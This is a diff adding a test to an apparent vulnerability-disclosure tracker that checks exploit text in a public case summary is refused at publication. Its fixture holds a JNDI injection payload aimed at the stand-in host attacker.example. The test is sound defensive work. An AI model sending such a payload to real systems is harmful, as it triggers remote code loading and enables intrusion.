@@ -229,6 +229,31 @@ describe('walk-through', () => {
     assert.equal(r.json.state, 'fixed');
   });
 
+  it('exploit text in the public title or summary is refused, naming the field and why (R-PUB-4)', async () => {
+    const { caseId } = await acceptedCase(admin, anon, { product_id: productA.id });
+    let r = await admin.patch(`/api/v1/cases/${caseId}`, {
+      summary: 'Remote code execution. PoC: send ${jndi:ldap://attacker.example/a} as the user agent.',
+    });
+    assert.equal(r.status, 200, r.text);
+    for (const to of ['confirmed', 'fixing', 'fixed']) {
+      r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to });
+      assert.equal(r.status, 200, `${to}: ${r.text}`);
+    }
+    r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to: 'published' });
+    assert.equal(r.status, 409, r.text);
+    assert.deepEqual(r.json.error.details.allowed, ['no_exploit']);
+    assert.match(r.json.error.message, /summary: payload near "[^"]*\$\{jndi:/);
+    assert.match(r.json.error.message, /summary: poc_marker/);
+    assert.match(r.json.error.message, /拒绝发布/);
+    assert.deepEqual(r.json.error.details.fields.map((f) => [f.field, f.code]), [['no_exploit', 'R-PUB-4']]);
+    assert.equal((await admin.get(`/api/v1/cases/${caseId}`)).json.state, 'fixed');
+    // Describing the flaw instead passes.
+    r = await admin.patch(`/api/v1/cases/${caseId}`, { summary: 'A crafted JNDI lookup in a logged string runs remote code.' });
+    assert.equal(r.status, 200, r.text);
+    r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to: 'published' });
+    assert.equal(r.status, 200, r.text);
+  });
+
   it('a foreign participant is refused (R-PUB-7)', async () => {
     const { caseId } = await acceptedCase(admin, anon, { product_id: productA.id });
     const foreign = await createOrg(admin, { name: uniq('Foreign '), type: 'operator', region: 'US' });
